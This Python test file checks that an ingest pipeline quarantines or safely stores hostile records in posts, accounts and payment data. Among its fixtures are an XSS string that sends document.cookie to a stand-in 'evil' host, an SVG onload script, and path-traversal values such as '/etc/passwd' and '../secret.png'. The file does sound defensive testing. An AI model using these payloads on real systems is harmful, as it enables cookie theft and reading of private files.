"""The hostile-input catalogue: every good record is stored, every bad one quarantined with its file, line
and field, and no value ends the run (posts, accounts and payments; JSON Lines and CSV)."""

from __future__ import annotations

import json
import math
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import duckdb
import pytest

from tests.ingest.conftest import post
from wildtrace.ingest import Mapping, ingest_records, read_quarantine, versions_of
from wildtrace.ingest._columnar import Columnar
from wildtrace.model import Account, Entity, MediaItem, Post, Transaction
from wildtrace.money import load_records
from wildtrace.store import Store

DEEP = "[" * 100_000 + "]" * 100_000
HOSTILE_HTML = '<script>fetch("//evil/"+document.cookie)</script><img src=x onerror=alert(1)>'
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
TX_HEADER = "id,time,payer,payee,amount,currency,channel,memo,step"


@dataclass(frozen=True)
class Case:
    """A hostile line, and ``why``: a text the quarantine reason must hold, or None when the record is data
    to store (then ``stored`` names the field values the stored entity must have)."""

    name: str
    model: str
    line: bytes
    why: str | None
    stored: dict[str, Any] | None = None
    fmt: str = "jsonl"


def _j(record: Any) -> bytes:
    return json.dumps(record).encode()  # ASCII: lone surrogates travel as \ud800 escapes, as in a hostile file


def _p(**extra: Any) -> bytes:
    return _j({**post(900), **extra})


def _a(**extra: Any) -> bytes:
    return _j({"id": "wechat:bad", "platform": "wechat", "handle": "bad", **extra})


def _t(**extra: Any) -> bytes:
    return _j({"id": "tbad", "time": "2026-03-14T10:00:00+08:00", "payer": "wallet:a", "payee": "wallet:b",
               "amount": 10, **extra})


def _row(**cells: str) -> bytes:
    base = {"id": "tbad", "time": "2026-03-14T10:00:00+08:00", "payer": "wallet:a", "payee": "wallet:b",
            "amount": "10", "currency": "CNY", "channel": "wechat", "memo": "ok", "step": ""}
    return ",".join({**base, **cells}[c] for c in TX_HEADER.split(",")).encode()


CASES = [
    # -- posts ---------------------------------------------------------------------------------
    Case("post lone surrogate in text", "post", _p(text="出售\ud800象牙"), "field 'text': contains a lone surrogate"),
    Case("post lone surrogate in id", "post", _p(id="p\udfff"), "field 'id'"),
    Case("post year-1 timestamp", "post", _p(posted_at="0001-01-01T00:00:00+08:00"), "field 'posted_at': year 1"),
    Case("post year-9999 timestamp", "post", _p(posted_at="9999-12-31T23:59:59-05:00"), "field 'posted_at'"),
    Case("post 400-digit epoch", "post", b'{"id": "e", "platform": "x", "posted_at": ' + b"9" * 400 + b"}",
         "field 'posted_at': integer out of the 64-bit range"),
    Case("post 400-digit epoch as text", "post", _p(posted_at="1" * 400), "field 'posted_at'"),
    Case("post far-future epoch in ms", "post", _p(posted_at=10**18), "field 'posted_at'"),
    Case("post 5,000-digit integer", "post", b'{"id": "big", "platform": "x", "n": ' + b"7" * 5000 + b"}",
         "not JSON that can be read"),
    Case("post JSON nested 100k deep", "post", b'{"id": "deep", "platform": "x", "text": ' + DEEP.encode() + b"}",
         "nested too deeply"),
    Case("post text nested 100 deep", "post", _p(text=json.loads("[" * 100 + "]" * 100)), "field 'text'"),
    Case("post NaN timestamp", "post", b'{"id": "nan", "platform": "x", "posted_at": NaN}', "field 'posted_at'"),
    Case("post infinite timestamp", "post", b'{"id": "inf", "platform": "x", "posted_at": -Infinity}',
         "field 'posted_at'"),
    Case("post binary junk", "post", b"\xff\xfe\x00\x9c binary \x80\x81", "not UTF-8"),
    Case("post truncated UTF-8", "post", _p(text="象")[:-4] + b"\xe8\xb1", "not UTF-8"),
    Case("post NUL in text", "post", _p(text="a\x00b"), "field 'text': contains NUL"),
    Case("post naive timestamp", "post", _p(posted_at="2026-03-14 23:30:00"), "no time zone"),
    Case("post impossible date", "post", _p(posted_at="2026-02-30T10:00:00+08:00"), "field 'posted_at'"),
    Case("post offset past a day", "post", _p(posted_at="2026-03-14T10:00:00+25:00"), "field 'posted_at'"),
    Case("post text is an object", "post", _p(text={"$where": "1"}), "field 'text'"),
    Case("post a JSON list", "post", b'["p", "x"]', "JSON object"),
    Case("post empty object", "post", b"{}", "field 'platform'"),
    Case("post huge platform list", "post", _p(platform=["x"] * 10_000), "field 'platform'"),
    Case("post media /etc/passwd", "post", _p(media=["/etc/passwd"]), "field 'media.0': '/etc/passwd' is absolute"),
    Case("post media ../ path", "post", _p(media=["../secret.png"]), "field 'media.0'"),
    Case("post media file URL", "post", _p(media=["file:///etc/passwd"]), "field 'media.0'"),
    Case("post media link out of its root", "post", _p(media=["link.png"]), "outside the media root"),
    Case("post media Windows path", "post", _p(media=["C:\\Windows\\win.ini"]), "field 'media.0'"),
    Case("post media not a list of paths", "post", _p(media=[12.5]), "field 'media.0'"),
    Case("post script as text", "post", _p(id="html", text=HOSTILE_HTML), None, {"id": "html", "text": HOSTILE_HTML}),
    Case("post SVG as text", "post", _p(id="svg", text=SVG), None, {"id": "svg", "text": SVG}),
    Case("post bidi and zero-width text", "post", _p(id="bidi", text="\u202eetirov\u200b象牙"), None,
         {"id": "bidi", "text": "\u202eetirov\u200b象牙"}),
    Case("post same id other content", "post", _p(id="p1", text="edited later"), None, {"version_of": "p1"}),
    # -- accounts ------------------------------------------------------------------------------
    Case("account lone surrogate in handle", "account", _a(handle="x\ud83d"), "field 'handle'"),
    Case("account unknown status", "account", _a(status="hacked"), "field 'status'"),
    Case("account year-9999 first seen", "account", _a(first_seen="9999-01-01T00:00:00Z"), "field 'first_seen'"),
    Case("account NaN first seen", "account", b'{"id": "a:n", "platform": "x", "handle": "n", "first_seen": NaN}',
         "field 'first_seen'"),
    Case("account NUL in bio", "account", _a(bio="bio\x00"), "field 'bio'"),
    Case("account platform is a number", "account", _a(platform=12), "field 'platform'"),
    Case("account handle is a 30-digit number", "account", _a(handle=10**30), "field 'handle'"),
    Case("account script in display name", "account", _a(id="wechat:xss", display_name=HOSTILE_HTML), None,
         {"id": "wechat:xss", "display_name": HOSTILE_HTML}),
    Case("account same id other bio", "account", _a(id="wechat:a1", handle="a1", bio="changed"), None,
         {"version_of": "wechat:a1"}),
    # -- payments (JSON Lines) -------------------------------------------------------------------
    Case("payment NaN amount", "transaction", b'{"id": "n", "payer": "a", "payee": "b", "amount": NaN}',
         "field 'amount'"),
    Case("payment infinite amount", "transaction", b'{"id": "i", "payer": "a", "payee": "b", "amount": Infinity}',
         "field 'amount'"),
    Case("payment negative amount", "transaction", _t(amount=-500), "field 'amount': -500 is negative"),
    Case("payment huge step", "transaction", _t(step=10**30), "field 'step'"),
    Case("payment 400-digit amount", "transaction", b'{"id": "d", "payer": "a", "payee": "b", "amount": '
         + b"9" * 400 + b"}", "field 'amount'"),
    Case("payment year-1 time", "transaction", _t(time="0001-01-01T00:00:00Z"), "field 'time'"),
    Case("payment payer is a list", "transaction", _t(payer=["a"]), "field 'payer'"),
    # -- payments (CSV, as `wildtrace money load` reads transactions.csv) --------------------------
    Case("payment CSV nan amount", "transaction", _row(amount="nan"), "field 'amount'", fmt="csv"),
    Case("payment CSV inf amount", "transaction", _row(amount="-inf"), "field 'amount'", fmt="csv"),
    Case("payment CSV 1e400 amount", "transaction", _row(amount="1e400"), "field 'amount'", fmt="csv"),
    Case("payment CSV negative amount", "transaction", _row(amount="-12.5"), "negative", fmt="csv"),
    Case("payment CSV huge step", "transaction", _row(step="9" * 30), "field 'step'", fmt="csv"),
    Case("payment CSV 5,000-digit step", "transaction", _row(step="9" * 5000), "field 'step'", fmt="csv"),
    Case("payment CSV unclosed quote", "transaction", _row(memo='"never closed'), "quote opened on line", fmt="csv"),
    Case("payment CSV stray quote", "transaction", _row(memo='"a"b'), "quote opened on line", fmt="csv"),
    Case("payment CSV extra cells", "transaction", _row(memo="a,b,c"), "cells", fmt="csv"),
    Case("payment CSV not UTF-8", "transaction", _row(memo="x") + b"\xff\xfe", "not UTF-8", fmt="csv"),
    Case("payment CSV NUL in payer", "transaction", _row(payer="a\x00b"), "field 'payer'", fmt="csv"),
    Case("payment CSV year-9999 time", "transaction", _row(time="9999-12-31T23:59:59+08:00"), "field 'time'",
         fmt="csv"),
    Case("payment CSV script in memo", "transaction", _row(id="txss", memo=HOSTILE_HTML.replace('"', "'")), None,
         {"id": "txss", "memo": HOSTILE_HTML.replace('"', "'")}, fmt="csv"),
    Case("payment CSV same id other amount", "transaction", _row(id="g1", amount="999"), None,
         {"version_of": "g1"}, fmt="csv"),
]
MODELS: dict[str, type[Entity]] = {"post": Post, "account": Account, "transaction": Transaction}


def _good(model: str, fmt: str, i: int) -> bytes:
    if model == "post":
        return _j(post(i))
    if model == "account":
        return _j({"id": f"wechat:a{i}", "platform": "wechat", "handle": f"a{i}", "bio": f"卖家 {i}"})
    if fmt == "csv":
        return _row(id=f"g{i}", amount=f"{100 + i}.5", memo=f"货款 {i}")
    return _j({"id": f"g{i}", "time": "2026-03-14T10:00:00+08:00", "payer": "wallet:a", "payee": "wallet:b",
               "amount": 100 + i})


@pytest.fixture(params=[True, False], ids=["columnar", "per-record"])
def columnar(request: pytest.FixtureRequest) -> bool:
    """Every case holds on both paths: DuckDB's batches and the per-record converter."""
    return bool(request.param)


def _ingest(store: Store, folder: Path, model: str, fmt: str, lines: list[bytes], chunk_size: int,
            columnar: bool) -> Any:
    folder.mkdir(parents=True, exist_ok=True)
    (folder.parent / "secret.png").write_bytes(b"\x89PNG\r\n\x1a\nsecret")
    link = folder / "link.png"
    if not link.exists():
        link.symlink_to(folder.parent / "secret.png")
    source = folder / f"{model}s.{fmt}"
    header = [TX_HEADER.encode()] if fmt == "csv" else []
    source.write_bytes(b"\n".join(header + lines) + b"\n")
    data_dir = folder.parent / "data"
    if model == "transaction" and columnar and chunk_size >= len(lines):  # as `wildtrace money load` reads them
        return source, load_records(store, "transactions", source, data_dir=data_dir)
    return source, ingest_records(store, source, model, data_dir=data_dir, chunk_size=chunk_size,
                                  columnar=columnar)


def _check(store: Store, case: Case, source: Path, line: int, quarantined: dict[int, dict]) -> None:
    model = MODELS[case.model]
    if case.why is not None:
        entry = quarantined.get(line)
        assert entry is not None, f"{case.name}: not quarantined"
        assert entry["reason"].startswith(f"{source}:{line}:") and case.why in entry["reason"], entry["reason"]
        return
    assert line not in quarantined, quarantined.get(line)
    expected = dict(case.stored or {})
    if "version_of" in expected:  # the stored row stays; the other content is kept as a version of it
        (version,) = versions_of(store, model, expected["version_of"])
        assert version != store.get(model, expected["version_of"])
        return
    stored = store.get(model, expected["id"])
    assert stored is not None, f"{case.name}: not stored"
    assert {k: getattr(stored, k) for k in expected} == expected


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
@pytest.mark.parametrize("columnar", [True, pytest.param(False, marks=pytest.mark.slow)],
                         ids=["columnar", "per-record"])
def test_each_hostile_input_is_quarantined_or_stored_as_data(store: Store, tmp_path: Path, case: Case,
                                                             columnar: bool) -> None:
    """The hostile line sits between good records in one chunk; the good ones are all stored. (The whole-file
    test below runs every case on both paths; one by one, the per-record path runs with the slow tests.)"""
    good = [_good(case.model, case.fmt, i) for i in range(4)]
    lines = [good[0], good[1], case.line, good[2], good[3]]
    source, result = _ingest(store, tmp_path / "in", case.model, case.fmt, lines, 100, columnar)
    first = 2 if case.fmt == "csv" else 1
    quarantined = {e["line"]: e for e in read_quarantine(result.quarantine_path)} if result.quarantine_path else {}
    _check(store, case, source, first + 2, quarantined)
    assert store.count(MODELS[case.model]) == 4 + (case.why is None and "version_of" not in (case.stored or {}))
    assert sorted(quarantined) == ([first + 2] if case.why else [])
    assert result.read == 5 and result.added + result.duplicates + result.versions + result.quarantined == 5


@pytest.mark.parametrize(("model", "fmt"), [("post", "jsonl"), ("account", "jsonl"), ("transaction", "jsonl"),
                                            ("transaction", "csv")])
def test_the_whole_catalogue_in_one_file_loses_no_good_record(store: Store, tmp_path: Path, model: str,
                                                              fmt: str, columnar: bool) -> None:
    """Every hostile line of a kind, each followed by a good record, in small chunks: one run, nothing lost."""
    cases = [c for c in CASES if c.model == model and c.fmt == fmt]
    lines, at = [_good(model, fmt, 1)], {}
    for i, case in enumerate(cases):
        at[case.name] = len(lines) + (2 if fmt == "csv" else 1)
        lines += [case.line, _good(model, fmt, 10 + i)]
    source, result = _ingest(store, tmp_path / "in", model, fmt, lines, 3, columnar)
    quarantined = {e["line"]: e for e in read_quarantine(result.quarantine_path)}
    for case in cases:
        _check(store, case, source, at[case.name], quarantined)
    good_ids = {MODELS[model](**_record(model, fmt, i)).key() for i in [1, *range(10, 10 + len(cases))]}
    assert good_ids <= {e.key() for e in store.find(MODELS[model])}
    assert result.read == len(lines) and len(quarantined) == sum(c.why is not None for c in cases)


def _record(model: str, fmt: str, i: int) -> dict[str, Any]:
    good = _good(model, fmt, i)
    if fmt == "csv":
        return {k: v for k, v in zip(TX_HEADER.split(","), good.decode().split(","), strict=True) if v}
    return json.loads(good)


def test_a_negative_amount_follows_the_mappings_sign_convention(store: Store, tmp_path: Path) -> None:
    source = tmp_path / "tx.jsonl"
    source.write_bytes(b"\n".join([_t(id="r1", amount=-500), _t(id="r2", amount=20)]) + b"\n")
    result = ingest_records(store, source, "transaction", mapping=Mapping(negative_amounts="reverse"),
                            data_dir=tmp_path / "d")
    assert (result.added, result.quarantined) == (2, 0)
    reversed_tx = store.get(Transaction, "r1")
    assert (reversed_tx.payer, reversed_tx.payee, reversed_tx.amount) == ("wallet:b", "wallet:a", 500)
    assert all(math.isfinite(t.amount) and t.amount >= 0 for t in store.find(Transaction))


def test_a_conflict_can_be_quarantined_instead_of_kept_as_a_version(store: Store, tmp_path: Path) -> None:
    source = tmp_path / "p.jsonl"
    source.write_bytes(b"\n".join([_j(post(1)), _j(post(1, text="other text")), _j(post(1))]) + b"\n")
    result = ingest_records(store, source, data_dir=tmp_path / "d", on_conflict="quarantine")
    assert (result.added, result.duplicates, result.versions, result.quarantined) == (1, 1, 0, 1)
    (entry,) = read_quarantine(result.quarantine_path)
    assert entry["line"] == 2 and "text'" in entry["reason"] and "stored with other content" in entry["reason"]
    assert store.get(Post, "p1").text == post(1)["text"] and versions_of(store, Post, "p1") == []


def test_a_media_record_cannot_point_the_store_at_a_local_file(store: Store, tmp_path: Path) -> None:
    source = tmp_path / "media.jsonl"
    (tmp_path / "ok.png").write_bytes(b"\x89PNG\r\n\x1a\nfine")
    source.write_bytes(b"\n".join([_j({"sha256": "a" * 64, "path": "/etc/passwd"}),
                                   _j({"sha256": "b" * 64, "path": "../../etc/passwd"}),
                                   _j({"path": "ok.png"})]) + b"\n")
    result = ingest_records(store, source, "media_item", data_dir=tmp_path / "d")
    assert (result.added, result.quarantined) == (1, 2)
    (item,) = store.find(MediaItem)
    assert Path(item.path).is_relative_to(tmp_path / "d" / "evidence")
    assert Path(item.path).read_bytes().endswith(b"fine")


def test_images_are_read_only_under_the_configured_roots(store: Store, tmp_path: Path) -> None:
    (tmp_path / "pics").mkdir()
    (tmp_path / "pics" / "a.png").write_bytes(b"\x89PNG\r\n\x1a\nA")
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "b.png").write_bytes(b"\x89PNG\r\n\x1a\nB")
    source = tmp_path / "in" / "p.jsonl"
    source.write_bytes(b"\n".join([_j(post(1, media=["a.png"])), _j(post(2, media=["b.png"]))]) + b"\n")
    result = ingest_records(store, source, data_dir=tmp_path / "d", media_roots=[tmp_path / "pics"])
    assert (result.added, result.quarantined) == (1, 1)  # b.png beside the file is outside the configured root
    assert "p2" not in {p.id for p in store.find(Post)} and "b.png" in result.errors[0]


def test_a_record_the_store_refuses_is_found_and_quarantined_alone(store: Store, tmp_path: Path, columnar: bool,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever the checks miss and the database refuses costs that record only, not its chunk (a columnar
    chunk the database refuses is committed record by record)."""
    insert, columnar_insert = store.insert_rows, Columnar.insert

    def picky_columnar(self: Columnar, con: Any) -> Any:
        if con.execute("SELECT count(*) FROM _wt_stage WHERE ok AND text LIKE '%REFUSE%'").fetchone()[0]:
            raise duckdb.ConversionException("Could not convert: the database's own limit")
        return columnar_insert(self, con)


    def picky(table: str, rows: list[dict[str, Any]], cols: Any, key: Any) -> int:
        if any("REFUSE" in str(r.get("text")) for r in rows):
            raise duckdb.ConversionException("Could not convert: the database's own limit")
        return insert(table, rows, cols, key)

    monkeypatch.setattr(store, "insert_rows", picky)
    monkeypatch.setattr(Columnar, "insert", picky_columnar)
    source = tmp_path / "p.jsonl"
    lines = [_j(post(i, text="REFUSE me") if i == 13 else post(i)) for i in range(40)]
    source.write_bytes(b"\n".join(lines) + b"\n")
    result = ingest_records(store, source, data_dir=tmp_path / "d", chunk_size=16, columnar=columnar)
    assert (result.read, result.added, result.quarantined) == (40, 39, 1)
    assert "p13" not in {p.id for p in store.find(Post)} and store.count(Post) == 39
    (entry,) = read_quarantine(result.quarantine_path)
    assert entry["line"] == 14 and "the store refused it" in entry["reason"]
    again = ingest_records(store, source, data_dir=tmp_path / "d", chunk_size=16, columnar=columnar)
    assert again.already_done and (again.read, again.quarantined) == (40, 1)
